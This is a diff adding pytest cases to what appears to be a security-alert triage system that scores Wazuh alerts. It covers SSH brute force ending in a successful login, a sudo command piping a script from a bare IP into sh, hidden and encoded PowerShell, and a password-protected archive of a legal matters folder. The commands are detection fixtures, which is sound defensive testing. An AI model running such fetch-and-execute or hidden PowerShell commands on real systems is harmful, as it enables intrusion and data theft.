@@ -1816,3 +1816,80 @@ def test_the_same_mail_verdict_read_from_elastic_s_office_365_integration():
     threat, = _ingest("ecs", alert)
     assert threat.signal["prevented"] is True and threat.signal["fields"]["prevented"] == "o365.audit.DeliveryAction"
     assert threat.severity == "MEDIUM" and "T1566.001" in _techniques(threat)
+
+
+def _ssh(ref, rule_id, level, description, groups, log, **data):
+    return _wazuh_alert(ref, rule_id, level, description, groups, agent="bastion-01", full_log=log,
+                        decoder={"name": "sshd"}, data={"srcip": "45.148.10.93", **data})
+
+
+def test_a_login_after_the_failures_a_composite_rule_kept_is_guessing_that_got_in_whatever_history_says(alice):
+    """Rule 40112 keeps the failures in previous_output: a success after three of them is a brute force
+    that got in (`login_after_failures`), and earlier closures of that address as noise cannot outvote it."""
+    acme = factories.make_customer(slug="acme-corp")
+    for hours, ref in ((30, "n1"), (20, "n2")):
+        factories.ingest_records("wazuh", [_ssh(ref, "5712", 10, "sshd: brute force trying to get access to "
+                                                         "the system. Non existent user.", ["syslog", "sshd",
+                                                         "authentication_failures"], "Invalid user admin from "
+                                                         "45.148.10.93", srcuser="admin")], acme)
+        _closed(alice, Threat.objects.filter(customer=acme).latest("received_at"), "false_positive", hours)
+    failures = "\n".join(f"sshd[48{i}]: Failed password for deploy from 45.148.10.93 port 517{i} ssh2" for i in range(3))
+    login = _ssh("s1", "40112", 12, "Multiple authentication failures followed by a success.",
+                 ["syslog", "attacks", "authentication_success"], "Accepted password for deploy from 45.148.10.93",
+                 dstuser="deploy")
+    factories.ingest_records("wazuh", [{**login, "previous_output": failures}], acme)
+    threat = Threat.objects.filter(customer=acme).latest("received_at")
+    assert "brute_force" in [b["name"] for b in threat.signal["behaviours"]]
+    assert threat.severity == "HIGH" and threat.requires_human_review
+    assert threat.false_positive["recommendation"] not in ("likely_false_positive", "likely_benign_true_positive")
+    evidence = AgentRun.objects.get(threat=threat, kind="priority").data["attack_evidence"]
+    assert "a successful login among repeated failures" in evidence  # what history may not outvote
+
+
+@pytest.mark.parametrize("command,band", [
+    ("/usr/bin/bash -c curl -fsSL http://45.148.10.93:8080/k.sh | sh", "HIGH"),  # fetched and run as it arrives
+    ("/usr/bin/curl -fsSL -o /tmp/k.sh http://45.148.10.93:8080/k.sh", "MEDIUM"),  # fetched only
+])
+def test_a_script_fetched_from_a_bare_address_and_piped_into_a_shell_ran(command, band):
+    sudo = _wazuh_alert("sudo-1", "5402", 3, "Successful sudo to ROOT executed.", ["syslog", "sudo"],
+                        agent="bastion-01", decoder={"name": "sudo"},
+                        data={"srcuser": "deploy", "dstuser": "root", "command": command})
+    threat, = _ingest("wazuh", sudo)
+    assert "T1105" in _techniques(threat) and ("T1059.004" in _techniques(threat)) is (band == "HIGH")
+    assert threat.severity in ((band,) if band == "HIGH" else ("LOW", "MEDIUM"))
+
+
+@pytest.mark.parametrize("parent,shown", [
+    ("powershell.exe -nop -w hidden -ep bypass", True),
+    ("powershell.exe -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIA", True),
+    ("powershell.exe -File C:\\Scripts\\nightly-backup.ps1", False),  # a visible, ordinary script
+])
+def test_powershell_that_hides_its_window_and_lifts_the_policy_is_suspicious_even_as_the_parent(parent, shown):
+    alert = _wazuh_alert("7z-1", "92067", 6, "7za.exe executed a compressed file creation command",
+                         ["sysmon", "sysmon_eid1_detections", "windows"], agent="fs-02",
+                         rule_mitre={"id": ["T1560.001"]},
+                         data={"win": {"system": {"eventID": "1", "channel": "Microsoft-Windows-Sysmon/Operational"},
+                                       "eventdata": {"image": "C:\\Windows\\Temp\\7za.exe",
+                                                     "commandLine": "7za.exe a -t7z -pSecret m.7z D:\\Matters",
+                                                     "parentImage": "C:\\Windows\\System32\\powershell.exe",
+                                                     "parentCommandLine": parent, "user": "HV\\it.contractor2"}}})
+    alert["rule"]["mitre"] = alert.pop("rule_mitre")
+    threat, = _ingest("wazuh", alert)
+    assert threat.signal["trust"] == "curated"  # a Sysmon detection rule is written for its one technique
+    assert "T1560.001" in _techniques(threat)
+    assert ("suspicious_execution" in [b["name"] for b in AgentRun.objects.get(threat=threat, kind="priority")
+                                       .data["behaviours"]]) is shown
+    assert (threat.severity == "MEDIUM") is shown
+
+
+def test_a_note_that_approves_one_thing_and_denies_another_without_naming_the_alert_is_a_rule(customer):
+    """Which sentence is about this alert the note does not say: it neither explains nor accuses."""
+    ContextItem.objects.create(customer=customer, kind="business", title="IT contractor scope",
+                               body="it.contractor2 is engaged for printer and Wi-Fi support on weekdays. "
+                                    "IT has no reason to archive matter folders.",
+                               keywords=["it.contractor2"], valid_from=timezone.now() - timedelta(days=1))
+    threat = _threat(customer, observables={"host": "fs-02", "user": "it.contractor2",
+                                            "command_line": "7za.exe a -t7z -pSecret m.7z D:\\Matters"})
+    context = AgentRun.objects.get(threat=threat, kind="context").data
+    assert threat.false_positive["recommendation"] not in ("likely_benign_true_positive", "likely_false_positive")
+    assert not any("explained by business context" in f.get("reason", "") for f in threat.risk_factors), context
